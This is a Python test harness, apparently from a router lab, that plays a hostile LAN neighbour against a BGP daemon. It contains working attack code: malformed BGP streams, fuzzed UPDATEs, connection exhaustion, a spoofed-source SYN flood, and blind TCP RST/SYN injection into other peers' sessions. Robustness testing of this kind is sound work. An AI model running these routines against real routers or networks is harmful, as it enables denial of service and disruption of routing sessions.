"""A hostile neighbour: everything a host on the LAN can throw at the router, in a few seconds.

It runs in a namespace of its own (`python3 -m lab.hostile …`), partly as a configured neighbour, partly as
anybody. Whatever it does may cost its own session and nothing else. All draws come from one seed, so that a
run can be repeated. It prints one line of JSON: how much of each kind it sent.
"""

import argparse
import json
import random
import select
import socket
import struct
import time

MARKER = b"\xff" * 16


def message(kind: int, body: bytes = b"", length: int | None = None, marker: bytes = MARKER) -> bytes:
    return marker + struct.pack("!HB", len(body) + 19 if length is None else length, kind) + body


def open_message(asn: int, identifier: bytes, version: int = 4, hold: int = 30, parameters: bytes | None = None) -> bytes:
    if parameters is None:
        capabilities = bytes([1, 4, 0, 1, 0, 1, 2, 0, 65, 4]) + struct.pack("!I", asn)
        parameters = bytes([2, len(capabilities)]) + capabilities
    return message(1, struct.pack("!BHH4sB", version, asn & 0xffff, hold, identifier, len(parameters) & 0xff) + parameters)


def update(asn: int, prefix_octet: int, next_hop: bytes) -> bytes:
    attributes = (b"\x40\x01\x01\x00" + b"\x40\x02\x06\x02\x01" + struct.pack("!I", asn)
                  + b"\x40\x03\x04" + next_hop + b"\xc0\x08\x04\x00\x01\x00\x02")
    return message(2, b"\0\0" + struct.pack("!H", len(attributes)) + attributes + bytes([24, 192, 0, prefix_octet]))


class Hostile:
    def __init__(self, options: argparse.Namespace) -> None:
        self.options = options
        self.random = random.Random(options.seed)
        self.sent: dict[str, int] = {}
        self.identifier = socket.inet_aton(options.local)

    def count(self, what: str, number: int = 1) -> None:
        self.sent[what] = self.sent.get(what, 0) + number

    def connect(self, timeout: float = 1.0) -> socket.socket | None:
        connection = socket.socket(socket.AF_INET)
        connection.settimeout(timeout)
        try:
            connection.bind((self.options.local, 0))
            connection.connect((self.options.remote, 179))
        except OSError:
            connection.close()
            return None
        return connection

    @staticmethod
    def drain(connection: socket.socket, seconds: float) -> tuple[bytes, bool]:
        deadline = time.monotonic() + seconds
        data = b""
        while time.monotonic() < deadline:
            ready, _, _ = select.select([connection], [], [], 0.05)
            if ready:
                try:
                    got = connection.recv(65536)
                except OSError:
                    return data, False
                if not got:
                    return data, False
                data += got
        return data, True

    def established(self) -> socket.socket | None:
        """A proper session up to Established, or None."""
        connection = self.connect()
        if not connection:
            return None
        try:
            connection.sendall(open_message(self.options.asn, self.identifier))
            data, alive = self.drain(connection, 0.15)
            if not alive or len(data) < 19:
                connection.close()
                return None
            connection.sendall(message(4))
            self.drain(connection, 0.05)
            return connection
        except OSError:
            connection.close()
            return None

    def garbage(self) -> None:
        """Streams that are no BGP, and OPENs that nobody may accept."""
        asn, identifier = self.options.asn, self.identifier
        streams = [
            self.random.randbytes(4096), message(1, length=19), message(2, b"\0" * 50), message(4), message(9),
            message(1, b"x", marker=b"\0" * 16), message(3, b"\6\2"), message(1, length=0),
            message(1, length=65535) + b"y" * 65000,
            open_message(asn, identifier, version=5), open_message(asn + 1, identifier), open_message(asn, identifier, hold=1),
            open_message(asn, b"\0\0\0\0"), open_message(asn, identifier, parameters=b"\x02\xff\x01"),
            open_message(asn, identifier, parameters=bytes(255)), open_message(asn, identifier) * 3,
            open_message(asn, identifier) + message(2, self.random.randbytes(200)),
        ]
        for stream in streams:
            connection = self.connect()
            if not connection:
                self.count("connections refused")
                continue
            try:
                connection.sendall(stream)
                self.drain(connection, 0.05)
            except OSError:
                pass
            connection.close()
            self.count("garbage streams")

    def mutations(self, until: float) -> None:
        """Sessions in order, on which UPDATEs with flipped bits arrive."""
        connection = None
        good = update(self.options.asn, 2, self.identifier)
        while time.monotonic() < until:
            if connection is None:
                connection = self.established()
                if connection is None:
                    time.sleep(0.2)
                    continue
                self.count("sessions established")
            bad = bytearray(good)
            for _ in range(1 + self.random.randrange(4)):
                # Behind the header: a broken length or marker would end the session at once.
                bad[self.random.randrange(19, len(bad))] = self.random.randrange(256)
            try:
                connection.sendall(bytes(bad))
                self.count("mutated UPDATEs")
                _, alive = self.drain(connection, 0.01)
            except OSError:
                alive = False
            if not alive:
                connection.close()
                connection = None
        if connection:
            connection.close()

    def idle_connections(self, number: int) -> list[socket.socket]:
        """Connections that never say a word; kept until the end."""
        kept = []
        for _ in range(number):
            connection = socket.socket(socket.AF_INET)
            connection.setblocking(False)
            try:
                connection.bind((self.options.local, 0))
                connection.connect_ex((self.options.remote, 179))
                kept.append(connection)
            except OSError:
                connection.close()
        self.count("silent connections", len(kept))
        return kept

    # -- raw frames

    def _raw(self) -> tuple[socket.socket, bytes, bytes]:
        raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        raw.bind(("eth0", 0))
        with open("/sys/class/net/eth0/address") as file:
            own = bytes.fromhex(file.read().strip().replace(":", ""))
        return raw, bytes.fromhex(self.options.mac.replace(":", "")), own

    @staticmethod
    def _checksum(data: bytes) -> int:
        if len(data) % 2:
            data += b"\0"
        total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
        while total >> 16:
            total = (total & 0xffff) + (total >> 16)
        return ~total & 0xffff

    def _segment(self, source: bytes, source_port: int, flags: int, sequence: int, acknowledgement: int,
                 payload: bytes = b"") -> bytes:
        target = socket.inet_aton(self.options.remote)
        tcp = struct.pack("!HHIIBBHHH", source_port, 179, sequence, acknowledgement, 0x50, flags, 65535, 0, 0) + payload
        check = self._checksum(source + target + struct.pack("!HH", 6, len(tcp)) + tcp)
        tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0xc0, 20 + len(tcp), 1, 0, 64, 6, 0, source, target)
        return ip[:10] + struct.pack("!H", self._checksum(ip)) + ip[12:] + tcp

    def _send(self, raw: socket.socket, frame: bytes) -> None:
        try:
            raw.send(frame)
        except OSError:
            time.sleep(0.001)

    def syn_flood(self, number: int) -> None:
        raw, router, own = self._raw()
        for n in range(number):
            source = socket.inet_aton(f"198.18.0.{100 + self.random.randrange(150)}")
            packet = self._segment(source, self.random.randrange(1024, 65536), 0x02, self.random.getrandbits(32), 0)
            self._send(raw, router + own + b"\x08\x00" + packet)
            if n % 100 == 0:
                time.sleep(0.002)
        self.count("SYNs from nowhere", number)

    def blind(self, number: int) -> None:
        """RST, SYN and data into other peers' living connections with guessed sequence numbers (RFC 5961)."""
        raw, router, own = self._raw()
        for n in range(number):
            for victim in self.options.victim:
                address, port = victim.split(":")
                flags, payload = self.random.choice([(0x04, b""), (0x14, b""), (0x02, b""), (0x12, b""), (0x11, b""),
                                                     (0x18, MARKER + b"\0\x15\3\6\2")])
                packet = self._segment(socket.inet_aton(address), int(port), flags, self.random.getrandbits(32),
                                       self.random.getrandbits(32), payload)
                self._send(raw, router + own + b"\x08\x00" + packet)
                self.count("blind segments")
            if n % 50 == 0:
                time.sleep(0.002)

    def noise(self, number: int) -> None:
        """Frames that are nearly something: ARP, IPv4 with fragments and options, IPv6 with headers, ND, VLAN."""
        raw, router, own = self._raw()
        kinds = [b"\x08\x00", b"\x08\x06", b"\x86\xdd", b"\x81\x00", b"\x88\xa8"]
        target4, target6 = socket.inet_aton(self.options.remote), socket.inet_pton(socket.AF_INET6, self.options.remote6)
        for n in range(number):
            kind = self.random.choice(kinds)
            body = bytearray(self.random.randbytes(self.random.choice([0, 1, 7, 20, 40, 41, 60, 100, 600, 1480])))
            if kind == b"\x08\x00" and len(body) >= 20:
                body[0] = self.random.choice([0x45, 0x46, 0x4f, 0x44])
                body[2:4] = struct.pack("!H", self.random.choice([len(body), 0, 65535, 20]))
                body[9] = self.random.choice([1, 6, 17, 89, 2])
                body[16:20] = target4
                body[10:12] = b"\0\0"
                body[10:12] = struct.pack("!H", self._checksum(bytes(body[:20])))
            elif kind == b"\x86\xdd" and len(body) >= 40:
                body[0] = 0x60
                body[4:6] = struct.pack("!H", self.random.choice([len(body) - 40, 0, 65535]))
                body[6] = self.random.choice([0, 6, 43, 44, 58, 59, 60, 89])
                body[24:40] = target6
            elif kind == b"\x08\x06" and len(body) >= 20:
                # ARP of the right form that claims other hosts' addresses is left out: that is an attack on the
                # LAN which no router can ward off.
                body[:8] = b"\0\1\x08\0\6\4" + struct.pack("!H", self.random.randrange(5))
                body = body[:27]
            self._send(raw, router + own + kind + bytes(body))
            if n % 100 == 0:
                time.sleep(0.002)
        self.count("frames of noise", number)

    def run(self) -> None:
        kept = self.idle_connections(200)
        self.garbage()
        self.noise(10_000)
        self.syn_flood(10_000)
        self.blind(2_000)
        for connection in kept[100:]:
            connection.close()
        self.mutations(time.monotonic() + self.options.seconds)
        for connection in kept:
            connection.close()
        print(json.dumps(self.sent), flush=True)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--local", required=True)
    parser.add_argument("--remote", required=True)
    parser.add_argument("--remote6", required=True)
    parser.add_argument("--mac", required=True)
    parser.add_argument("--asn", type=int, required=True)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=4)
    parser.add_argument("--victim", action="append", default=[], metavar="ADDRESS:PORT")
    Hostile(parser.parse_args()).run()


if __name__ == "__main__":
    main()
